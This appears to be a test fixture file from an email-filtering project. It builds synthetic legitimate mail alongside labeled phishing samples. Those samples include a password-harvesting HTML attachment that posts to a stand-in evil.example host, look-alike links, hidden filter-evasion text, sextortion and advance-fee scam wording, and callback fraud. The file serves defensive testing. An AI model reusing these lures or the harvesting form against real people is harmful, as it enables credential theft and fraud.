/**
 * Mail as it is written today, made up: advertising and receipts of honest senders, and phishing of the usual kinds.
 */
import { type MessageOptions, message } from '../../src/testing/message.ts'

export interface Written {
  readonly name: string
  readonly reversePath: string
  readonly bytes: Buffer
}

const written = (name: string, reversePath: string, options: MessageOptions): Written => ({
  name,
  reversePath,
  bytes: message({
    to: 'Bob <bob@example.org>',
    messageId: `<${name.replaceAll(' ', '.')}@${reversePath.split('@')[1]}>`,
    ...options,
  }),
})

const unsubscribe = (host: string) => ({
  'List-Unsubscribe': `<https://${host}/u/8f3a2c>, <mailto:unsub@${host}?subject=unsubscribe>`,
  'List-Unsubscribe-Post': 'List-Unsubscribe=One-Click',
  'Feedback-ID': '1234:5678:campaign',
})

/** What providers for mail put around advertising: hidden preview, tables, pictures, counted links, a way out. */
const campaign = (host: string, title: string, text: string, count = 6): string => `<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>${title}</title><style>.h{display:none} @media (max-width:600px){.c{width:100%}} a{color:#333}</style></head>
<body style="margin:0;background:#fff"><div style="display:none;font-size:1px;color:#ffffff;line-height:1px;max-height:0;opacity:0;overflow:hidden">
${text.slice(0, 90)} ${'&#847; &zwnj; &nbsp; '.repeat(60)}</div>
<table width="600" class="c">${Array.from(
  { length: count },
  (_, index) => `
<tr><td><a href="https://${host}/ls/click?upn=u001.${'aZ3kQ9'.repeat(20)}${index}"><img src="https://cdn.${host}/img/${index}.jpg" width="600" alt="${title}"></a></td></tr>
<tr><td style="font-size:16px"><p>${text}</p><a href="https://${host}/ls/click?upn=u001.${'bY4jR8'.repeat(20)}${index}" style="background:#e00;color:#fff">Shop now</a></td></tr>`,
).join('')}
<tr><td style="font-size:10px;color:#999">You are receiving this email because you signed up at our store. No longer want these emails?
<a href="https://${host}/u/8f3a2c">Unsubscribe</a> | <a href="https://${host}/prefs">Manage preferences</a><br>1 Market Street, San Francisco, CA 94105</td></tr></table>
<img src="https://${host}/wf/open?upn=xyz" width="1" height="1" alt=""></body></html>`

export const honest: readonly Written[] = [
  written('a sale', 'bounces+123-abc=bob=example.org@em42.northshop.com', {
    from: 'North Shop <hello@northshop.com>',
    subject: '🔥 50% OFF everything — today only!',
    header: unsubscribe('u1234.ct.sendgrid.net'),
    text: 'Everything is half price today only. Shop now: https://u1234.ct.sendgrid.net/ls/click?upn=abc\n\nUnsubscribe: https://u1234.ct.sendgrid.net/u\n',
    html: campaign(
      'u1234.ct.sendgrid.net',
      'Everything is half price',
      'Save up to 50% on everything, today only. Free shipping on orders over $50. Don’t miss our lowest prices of the season, while supplies last!',
    ),
  }),
  written('a sale in pictures only', 'bounce@mail.clothes.com', {
    from: 'CLOTHES <news@mail.clothes.com>',
    subject: 'FINAL HOURS: EXTRA 40% OFF SALE',
    header: unsubscribe('click.mail.clothes.com'),
    html: campaign('click.mail.clothes.com', 'Final hours', '', 9),
  }),
  written('a receipt', 'bounces+99@stripe.com', {
    from: '"Notes Inc." <receipts+acct_1Hh2@stripe.com>',
    subject: 'Your receipt from Notes Inc. #2041-7713',
    header: { 'Reply-To': 'support@notes.example.com' },
    text: 'Receipt from Notes Inc.\nAmount paid $12.00\nDate paid Nov 3, 2026\nPayment method Visa - 4242\n\nView in browser: https://pay.stripe.com/receipts/abc\nQuestions? Contact support@notes.example.com or call +1 415-555-0100.\n',
    html: '<table><tr><td>Receipt from Notes Inc.</td></tr><tr><td>Amount paid $12.00</td></tr><tr><td>Visa 4242</td></tr></table><a href="https://pay.stripe.com/receipts/abc">View receipt</a> <a href="https://notes.example.com">notes.example.com</a> If you have any questions, contact us at support@notes.example.com or call +1 415-555-0100.',
  }),
  written('an order confirmed', '2024@bounces.amazon.com', {
    from: '"Amazon.com" <auto-confirm@amazon.com>',
    subject: '=?UTF-8?Q?Ordered:_"Coffee_Filters..."?=',
    html: '<html><body><p>Thanks for your order, Bob!</p><a href="https://www.amazon.com/gp/css/order-details?orderId=113">View or edit order</a><p>Order # 113-8832 Arriving Thursday. Total $21.18. Payment: Visa ending in 1234. If you didn’t place this order, visit <a href="https://www.amazon.com/help">Customer Service</a>.</p></body></html>',
  }),
  written('a sign-in notice', 'noreply@accounts.google.com', {
    from: 'Google <no-reply@accounts.google.com>',
    subject: 'Security alert',
    text: 'A new sign-in on Windows\n\nbob@example.org\nWe noticed a new sign-in to your Google Account on a Windows device. If this was you, you don’t need to do anything. If not, we’ll help you secure your account.\n\nCheck activity\nhttps://accounts.google.com/AccountChooser?Email=bob@example.org&continue=https://myaccount.google.com/alert\n',
    html: '<p>A new sign-in on Windows</p><p>bob@example.org</p><p>We noticed a new sign-in to your Google Account on a Windows device. If this was you, you don’t need to do anything. If not, we’ll help you secure your account.</p><a href="https://accounts.google.com/AccountChooser?Email=bob@example.org&amp;continue=https://myaccount.google.com/alert">Check activity</a>',
  }),
  written('a payment that failed', 'bounce@netflix.com', {
    from: 'Netflix <info@account.netflix.com>',
    subject: 'Update needed: your payment was declined',
    html: '<p>Hi Bob,</p><p>We’re having some trouble with your current billing information. Your payment was declined. Please update your payment details to avoid interruption of your membership.</p><a href="https://www.netflix.com/YourAccountPayment?lnktrk=EMP">Update account now</a><p>Need help? We’re here: <a href="https://help.netflix.com">Help Center</a></p>',
  }),
  written('a parcel on its way', 'bounce@fedex.com', {
    from: 'FedEx <TrackingUpdates@fedex.com>',
    subject: 'Your package is scheduled for delivery tomorrow',
    html: '<p>Hi. Your package is scheduled to be delivered on Tue, 11/24/2026 by 8:00pm.</p><a href="https://www.fedex.com/fedextrack/?trknbr=7712">TRACK SHIPMENT</a><p>Delivery attempt: a signature is required.</p>',
  }),
  written('a newsletter by Mailchimp', 'bounce-mc.us1_123@mail5.atl.rsgsv.net', {
    from: 'Bread &amp; Salt <hello@breadandsalt.example.com>'
      .replace('&amp;', '&')
      .replace('Bread & Salt', '"Bread & Salt"'),
    subject: 'This week: sourdough, and a free ebook 🍞',
    header: unsubscribe('breadandsalt.us1.list-manage.com'),
    text: 'This week we bake sourdough.\nRead it: https://breadandsalt.us1.list-manage.com/track/click?u=1&id=2\n',
    html: campaign(
      'breadandsalt.us1.list-manage.com',
      'Sourdough',
      'This week we bake sourdough together, and our ebook is free for subscribers. Click here to read it on www.breadandsalt.example.com',
      3,
    ),
  }),
  written('a notice of GitHub', 'noreply@github.com', {
    from: 'alice <notifications@github.com>',
    to: 'postern/postern <postern@noreply.github.com>',
    subject: 'Re: [postern/postern] Verify your account page is broken (Issue #7)',
    header: {
      'In-Reply-To': '<postern/postern/issues/7@github.com>',
      'Reply-To': 'postern/postern <reply+AAAA4XYZ@reply.github.com>',
      ...unsubscribe('github.com'),
    },
    text: 'I can reproduce it. http://localhost:8080/verify says "account suspended".\n\n-- \nReply to this email directly or view it on GitHub:\nhttps://github.com/postern/postern/issues/7#issuecomment-1\n',
    html: '<p>I can reproduce it.</p><p>—<br>Reply to this email directly, <a href="https://github.com/postern/postern/issues/7">view it on GitHub</a>, or <a href="https://github.com/notifications/unsubscribe-auth/AAAA">unsubscribe</a>.</p><img src="https://github.com/notifications/beacon/AAAA.gif" height="1" width="1">',
  }),
  written('a document to sign', 'dse@docusign.net', {
    from: 'Alice Example via DocuSign <dse_na3@docusign.net>',
    subject: 'Complete with DocuSign: Lease 2027.pdf',
    header: { 'Reply-To': 'Alice Example <alice@example.net>' },
    html: '<p>Alice Example sent you a document to review and sign.</p><a href="https://na3.docusign.net/Signing/EmailStart.aspx?a=1">REVIEW DOCUMENT</a><p>Do Not Share This Email. This email contains a secure link to DocuSign.</p>',
  }),
  written('an invitation by a small firm from Gmail', 'yoga.anna@gmail.com', {
    from: 'Anna Yoga <yoga.anna@gmail.com>',
    subject: 'New classes in January',
    messageId: '<CAF0gk3-xyz@mail.gmail.com>',
    header: { Received: 'by mail-qk1-f170.google.com with SMTP id x2; Thu, 01 Jan 2026 04:00:00 -0800 (PST)' },
    text: 'Dear friends,\n\nmy new timetable is here: https://bit.ly/4yoga\nRegister with this form: https://forms.gle/AbC123\n\nLove, Anna\n',
  }),
  written('points of a bank', 'bounce@e.chase.com', {
    from: 'Chase <no.reply.alerts@chase.com>',
    subject: 'Your statement is ready for credit card account ending in 1234',
    html: '<p>Your statement is ready. Minimum payment due: $35.00.</p><a href="https://www.chase.com/digital/login">Sign in to see your statement</a><p>Never share your password. If this is suspicious activity call the number on the back of your card.</p>',
  }),
  written('a reset of a password', 'bounce@app.example.com', {
    from: 'Linear <no-reply@linear.example.com>',
    subject: 'Reset your password',
    html: '<p>Someone asked to change your password. Click the button below within 24 hours to confirm your email.</p><a href="https://linear.example.com/reset?token=8a7b6c5d">Reset password</a><p>If you did not ask, ignore this.</p>',
  }),
  written('a survey of a hotel', 'bounce@e.hotel.com', {
    from: 'Grand Hotel <guest@e.hotel.com>',
    subject: 'How was your stay? Take our short survey and win a gift card',
    header: unsubscribe('click.e.hotel.com'),
    html: campaign(
      'click.e.hotel.com',
      'How was your stay',
      'Answer a few questions for a chance to win a $100 gift card. Your opinion matters to us.',
      1,
    ),
  }),
  written('a bill with a PDF', 'billing@power.de', {
    from: 'Stadtwerke Musterstadt <rechnung@power.de>',
    subject: 'Ihre Rechnung November 2026',
    text: 'Sehr geehrter Herr Beispiel,\n\nim Anhang finden Sie Ihre Rechnung. Bitte überweisen Sie den Betrag innerhalb von 14 Tagen.\n',
    attachments: [
      {
        filename: 'Rechnung.pdf',
        type: 'application/pdf',
        content: '%PDF-1.4\n1 0 obj <</Type /Catalog>> endobj\ntrailer <<>>\n%%EOF',
      },
    ],
  }),
]

export const phishing: readonly Written[] = [
  written('a wallet of cryptocurrency', 'info@tenderloin-shop.com', {
    from: 'MetaMask Support <info@tenderloin-shop.com>',
    subject: 'Mandatory KYC verification of your wallet',
    html: '<p>Dear user,</p><p>Your wallet will be restricted unless you verify your wallet within 24 hours.</p><a href="https://metamask-kyc.pages.dev/">Verify now</a>',
  }),
  written('a full mailbox', 'it@contractor.com.br', {
    from: '"example.org IT Helpdesk" <it@contractor.com.br>',
    subject: 'Password expires today for bob@example.org',
    html: '<p>Hello bob@example.org,</p><p>Your password expires today. Keep current password to avoid losing your incoming messages.</p><a href="https://bafybeigdyrzt5sfp7udm7hu76uh7y26nf3efuylqabf3oclgtqy55fbzdi.ipfs.dweb.link/#bob@example.org">Keep same password</a>',
  }),
  written('a streaming service', 'noreply@xkqwjrtb.firebaseapp.com', {
    from: 'Netflix <noreply@xkqwjrtb.firebaseapp.com>',
    subject: 'Your subscription has expired',
    html: '<p>Your membership has expired. Update your payment details to avoid suspension.</p><a href="https://storage.googleapis.com/netf/index.html#4xYzAbC">Update payment</a>',
  }),
  written('a prize of a shop', 'return@m.gqzvkhbtr.click', {
    from: 'Costco Winner <contact@gqzvkhbtr.click>',
    subject: '🎁 Congratulations! You have been selected - claim your reward',
    html: `<a href="https://gqzvkhbtr.click/c/4f"><img src="https://i.imgur.com/a.png"></a><div style="font-size:0;color:#fff">${'The quiet river runs past the old mill and nobody knows why. '.repeat(20)}</div>`,
  }),
  written('a parcel of a post', 'bounce@server7.hostprovider.net', {
    from: 'USPS <info@delivery-status-alerts.top>',
    subject: 'Your package could not be delivered',
    html: '<p>Your package is on hold because of an incomplete address. Schedule your delivery immediately and pay the shipping fee.</p><a href="https://usps.delivery-status-alerts.top/track">Reschedule delivery</a>',
  }),
  written('a page attached', 'accounts@supplier-mail.com', {
    from: 'Accounts Payable <accounts@supplier-mail.com>',
    subject: 'Remittance advice for bob',
    text: 'Please find attached the remittance advice.\n',
    attachments: [
      {
        filename: 'Remittance_8812.shtml',
        type: 'text/html',
        content:
          '<html><body><form action="https://evil.example/p.php" method="post"><input type="email" value="bob@example.org"><input type="password" name="p"></form></body></html>',
      },
    ],
  }),
  written('a voice message', 'vm@compromised-firm.co.uk', {
    from: '"Microsoft 365" <vm@compromised-firm.co.uk>',
    subject: 'You have a new voicemail from +1 (415) 555-0199',
    html: '<p>You received a new voice message.</p><a href="https://www.google.com/url?q=https://voice-0365.workers.dev/&amp;sa=D">Listen to voicemail</a>',
  }),
  written('a bill to call about', 'jacksonmiller88213@gmail.com', {
    from: 'Billing Department <jacksonmiller88213@gmail.com>',
    subject: 'Invoice #NT-99817 Order confirmation',
    messageId: '<CABc@mail.gmail.com>',
    text: 'Dear customer,\n\nThank you for your purchase. Your subscription of Norton 360 Total Security has been renewed and $389.99 will be charged from your account.\nIf you did not authorize this, to cancel call our customer support at +1 (888) 555-0123 within 24 hours for a refund.\n',
  }),
  written('extortion', 'bob@example.org', {
    from: 'bob@example.org',
    to: 'bob@example.org',
    subject: 'Your account is hacked',
    text: 'I hacked your device and recorded you with your webcam while you visited adult websites. I have full access to your contacts. Pay 1200 USD in bitcoin to my wallet 1BoatSLRHtKNngkdXEeobR76b53LETtpyT within 48 hours or I send the video of you to your contacts. Do not try to contact the police.\n',
  }),
  written('a tax office', 'contato@loja-legal.com.br', {
    from: 'Receita Federal <contato@loja-legal.com.br>',
    subject: 'Pendência: regularize seu CPF',
    html: '<p>Sua conta sera bloqueada. Clique aqui para atualizar seus dados em 24 horas.</p><a href="https://bit.ly/3regular">Regularizar agora</a>',
  }),
  written('a bank with a look-alike', 'security@paypal-resolution.com', {
    from: 'Service <security@paypal-resolution.com>',
    subject: 'Unusual activity on your account',
    html: '<p>Dear customer, we noticed unusual activity. Please confirm your identity.</p><a href="https://www.paypal-resolution.com/signin">https://www.paypal.com/signin</a>',
  }),
  written('a code to scan', 'hr@randomcorp.biz', {
    from: 'Human Resources <hr@randomcorp.biz>',
    subject: 'Action required: 2FA update for bob',
    html: '<p>Your security update is pending. Scan the QR code below with your phone to avoid suspension within 24 hours.</p><img src="cid:qr">',
    attachments: [
      {
        filename: 'qr.png',
        type: 'image/png',
        content: Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), Buffer.alloc(9000, 7)]),
      },
    ],
  }),
  written('a fortune', 'mrs.helen@yahoo.com', {
    from: 'Mrs Helen Cole <mrs.helen@yahoo.com>',
    subject: 'Dearest one',
    header: { 'Reply-To': 'helencole1955@gmail.com' },
    text: 'My name is Helen Cole, a widow. My late husband left 4.5 million us dollars with a security company in Abidjan. I have cancer and want to donate it to charity by your assistance. God bless you. Send your full name and telephone number. This transaction is strictly confidential.\n',
  }),
  written('storage that is full', 'updates@mail-cloudnotice.shop', {
    from: 'iCloud <updates@mail-cloudnotice.shop>',
    subject: 'Your storage is full - your photos will be deleted',
    html: '<p>Your cloud storage is full. Upgrade now to avoid losing your photos.</p><a href="https://s3.eu-west-1.amazonaws.com/q9x/index.html">Upgrade storage</a>',
  }),
]
